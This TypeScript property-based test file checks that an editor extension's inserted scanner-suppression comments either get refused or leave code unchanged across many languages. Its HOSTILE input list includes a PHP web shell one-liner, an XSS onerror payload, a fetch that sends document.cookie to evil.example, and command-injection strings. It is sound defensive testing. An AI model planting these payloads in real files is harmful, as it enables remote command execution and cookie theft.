// The proof that inserted text stays a comment: for real files of each language (fixtures.ts),
// every line, generated hostile summaries (comment terminators, directives, template syntax,
// continuations, code in other contexts, every Unicode category), and several scanners'
// styles, the insertion the extension would make is either refused or leaves the file's code
// unchanged as an INDEPENDENT parser reads it (oracles.ts). More than 10,000 summaries per run.
import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import ts from 'typescript';
import { commentSyntaxFor } from '../../../../src/model/commentSyntax';
import { chooseInsertion } from '../../../../src/model/insertion';
import { Prover } from '../../../../src/model/proof/prover';
import { buildSuppressionComment, resolveStyle } from '../../../../src/model/suppression';
import { observe } from '../../../support/evidence';
import { FIXTURES, type Fixture } from './fixtures';
import {
  GRAMMAR_DIR,
  preprocessC,
  readBash,
  readHtml,
  readPhp,
  readTreeSitter,
  readTypeScript,
  readYaml,
  samePython,
  treeSitter,
  type Reading,
} from './oracles';

const prover = new Prover(GRAMMAR_DIR);

/** Runs per fixture: more where contexts mix; over 10,000 in all. */
const RUNS: Record<string, number> = {
  'TSX component': 1500,
  'JSX in a .js file': 700,
  'TypeScript service': 700,
  'PHP with HTML': 1000,
  'PHP strict types': 300,
  'HTML page': 1000,
  'GitHub Actions workflow': 1000,
  'Python module': 1000,
  'Go handler': 450,
  'Java class': 450,
  'C file': 500,
  'C++ file': 400,
  'Shell script': 600,
  'Ruby model': 350,
  'C# class': 300,
  'Rust module': 300,
  'PowerShell script': 300,
};

const HOSTILE = [
  '*/',
  '/*',
  '-->',
  '<!--',
  '?>',
  '<?php system($_GET["c"]); ?>',
  '<?=',
  '</script><img src=x onerror=alert(1)>',
  '</style>',
  '{void fetch("https://evil.example/?c="+document.cookie)}',
  '{',
  '}',
  '${{ secrets.TOKEN }}',
  '{{ .Values.x }}',
  '{% raw %}',
  '${x}',
  '#{x}',
  '$(id)',
  '`id`',
  '\\',
  '\\u000a',
  '^',
  '`',
  '%PATH%',
  '%~dp0',
  '!x!',
  '&',
  '& start calc.exe',
  '|',
  '"',
  "'",
  '"""',
  "'''",
  'EOF',
  'EOT',
  'SQL',
  '"@',
  '@"',
  '#>',
  '<#',
  ']]',
  '[[',
  '-}',
  '{-',
  '=#',
  '#=',
  ']]>',
  '<![CDATA[',
  '=begin',
  '=end',
  '\n',
  '\r\n',
  '\r',
  '\u2028',
  '\u0085',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u{E0041}',
  '\t',
  '\u0000',
  '\u001b[31m',
  'NOLINTNEXTLINE',
  'nosec',
  '@ts-ignore',
  'eslint-disable',
  'type: ignore',
  'pylint: disable',
  'NOSONAR',
  'nosemgrep: x',
  'vim: set ft=sh',
  'coding: latin-1',
  '-*- mode: c -*-',
  '+build ignore',
  '# line 1',
  '--',
  '-',
  '\\ ',
  '??/',
  '表',
  '許',
  'r#"',
  '"#',
  'R"(',
  ')"',
  '@"',
  '<<EOF',
  '<<~SQL',
  '\\\n',
  ' \\',
  '{/*',
  '*/}',
  'http://x/*y*/',
  '//',
  '#',
  ';',
  '%>',
  '<%',
];
const PROSE = [
  'The',
  'input',
  'is',
  'validated',
  'before',
  'use,',
  'so',
  'it',
  'cannot',
  'escape',
  'the',
  'root.',
  '(see',
  'docs);',
  '"quoted"',
  "'single'",
  'a/b',
  'x-y',
  'e.g.',
  'Café',
  'проверено',
  '入力は検証済み',
  'مدخلات',
  '—',
  '…',
  '50%',
  'key=value',
];

const summary = fc
  .array(
    fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...PROSE) },
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 4 }) },
    ),
    { minLength: 1, maxLength: 16 },
  )
  .chain((parts) => fc.constantFrom(parts.join(' '), parts.join('')));

const VENDORS: [string, string][] = [
  ['checkmarx', 'CX-SQLi-12'],
  ['sonarqube', 'S2077'],
  ['semgrep', 'python.lang.security.sqli'],
  ['snyk', 'javascript/Sqli'],
  ['codeql', 'js/sql-injection'],
];

/** The independent reading for a fixture's language. */
async function oracleFor(fixture: Fixture): Promise<{ name: string; read?: (text: string) => Reading }> {
  switch (fixture.languageId) {
    case 'typescriptreact':
      return { name: 'TypeScript parser (TSX)', read: (t) => readTypeScript(t, ts.ScriptKind.TSX) };
    case 'javascriptreact':
    case 'javascript':
      return { name: 'TypeScript parser (JSX)', read: (t) => readTypeScript(t, ts.ScriptKind.JSX) };
    case 'typescript':
      return { name: 'TypeScript parser', read: (t) => readTypeScript(t, ts.ScriptKind.TS) };
    case 'php':
      return { name: 'php-parser', read: readPhp };
    case 'html':
      return { name: 'parse5 tree + TypeScript parser for scripts', read: readHtml };
    case 'github-actions-workflow': {
      const bash = await treeSitter('bash');
      return { name: 'js-yaml + tree-sitter bash for run:', read: (t) => readYaml(t, bash) };
    }
    case 'python':
      return { name: 'CPython ast (batched)' };
    case 'shellscript':
      return { name: 'bash itself (declare -f)', read: readBash };
    default: {
      const grammar = {
        go: 'go',
        java: 'java',
        c: 'cpp',
        cpp: 'cpp',
        ruby: 'ruby',
        csharp: 'c-sharp',
        rust: 'rust',
        powershell: 'powershell',
      }[fixture.languageId];
      assert.ok(grammar, fixture.languageId);
      const parser = await treeSitter(grammar);
      return {
        name: `tree-sitter ${grammar} (this test's rules)${fixture.languageId === 'c' ? ' + gcc -E on a sample' : ''}`,
        read: (t) => readTreeSitter(parser, t),
      };
    }
  }
}

describe('insertion oracle: an inserted summary stays a comment, or is refused', function () {
  this.timeout(900_000);
  let total = 0;

  after(() => {
    observe(`${total} hostile summaries in all, every accepted insertion checked by an independent parser`);
    assert.ok(total >= 10_000, `only ${total} summaries were tried`);
  });

  for (const fixture of FIXTURES) {
    it(`${fixture.name} (${fixture.languageId}): every line, ${RUNS[fixture.name]} summaries`, async () => {
      const syntax = commentSyntaxFor(fixture.languageId);
      assert.ok(syntax, fixture.languageId);
      const oracle = await oracleFor(fixture);
      const before = oracle.read?.(fixture.text);
      assert.equal(before?.errors ?? 0, 0, `the fixture itself must parse cleanly with ${oracle.name}`);
      const lineCount = fixture.text.split('\n').length;
      const stats = { runs: 0, built: 0, inserted: 0, forms: new Map<string, number>(), lines: new Set<number>() };
      const pythonPairs: [string, string, string][] = [];
      const cSamples: string[] = [];

      await fc.assert(
        fc.asyncProperty(
          fc.integer({ min: 0, max: lineCount - 1 }),
          fc.constantFrom(...VENDORS),
          summary,
          async (line, [vendor, vendorIssueId], text) => {
            stats.runs++;
            const style = resolveStyle(vendor, fixture.languageId);
            const comment = buildSuppressionComment({
              languageId: fixture.languageId,
              style,
              fields: { summary: text, vendor, vendorIssueId, issueType: 'SQL_Injection', fpId: '5f0c6a43-8d2e-4f0b-9a51-2c1d6e7f8a90' },
            });
            if (!comment.ok) return;
            stats.built++;
            const choice = await chooseInsertion({ text: fixture.text, line, eol: '\n', syntax, candidates: comment.candidates, prover });
            if (choice.kind === 'refuse') {
              assert.ok(choice.reason.length > 0);
              return;
            }
            stats.inserted++;
            stats.lines.add(line);
            stats.forms.set(choice.candidate.form.open, (stats.forms.get(choice.candidate.form.open) ?? 0) + 1);
            assert.ok(choice.after.includes(choice.candidate.line), 'the comment is in the file');
            if (!oracle.read) {
              pythonPairs.push([fixture.text, choice.after, JSON.stringify({ line, text })]);
              return;
            }
            const after = oracle.read(choice.after);
            assert.equal(
              after.errors,
              0,
              `${oracle.name} reads a syntax error after inserting ${JSON.stringify(choice.candidate.line)} at line ${line + 1}`,
            );
            assert.deepEqual(
              after.tokens,
              before!.tokens,
              `the code changed (${oracle.name}) after inserting ${JSON.stringify(choice.candidate.line)} at line ${line + 1}`,
            );
            if (fixture.languageId === 'c' && cSamples.length < 60) cSamples.push(choice.after);
          },
        ),
        { numRuns: Math.round((RUNS[fixture.name] ?? 300) * Number(process.env.ORACLE_SCALE ?? 1)) },
      );

      for (const [i, result] of samePython(pythonPairs.map(([b, a]) => [b, a])).entries()) {
        assert.ok(result.same, `CPython reads different code after an insertion: ${pythonPairs[i]![2]} → ${result.detail}`);
      }
      if (cSamples.length > 0) {
        const reference = preprocessC(Buffer.from(fixture.text, 'latin1'));
        if (reference) {
          for (const sample of cSamples)
            assert.equal(preprocessC(Buffer.from(sample, 'utf8'))?.out, reference.out, 'gcc -E differs after an insertion');
        }
      }
      total += stats.runs;
      const forms = [...stats.forms].map(([open, n]) => `${open} ×${n}`).join(', ');
      observe(
        `${stats.runs} summaries: ${stats.built} passed the allowlist, ${stats.inserted} inserted on ${stats.lines.size} of ${lineCount} lines (${forms || 'none'}), the rest refused; ${oracle.name}: code unchanged in every insertion`,
      );
      // Not vacuous: ordinary prose gets inserted on many lines of every file.
      assert.ok(stats.inserted >= stats.runs / 20, `only ${stats.inserted} of ${stats.runs} inserted`);
      assert.ok(stats.lines.size >= Math.min(5, lineCount / 3), `insertions on only ${stats.lines.size} lines`);
    });
  }
});
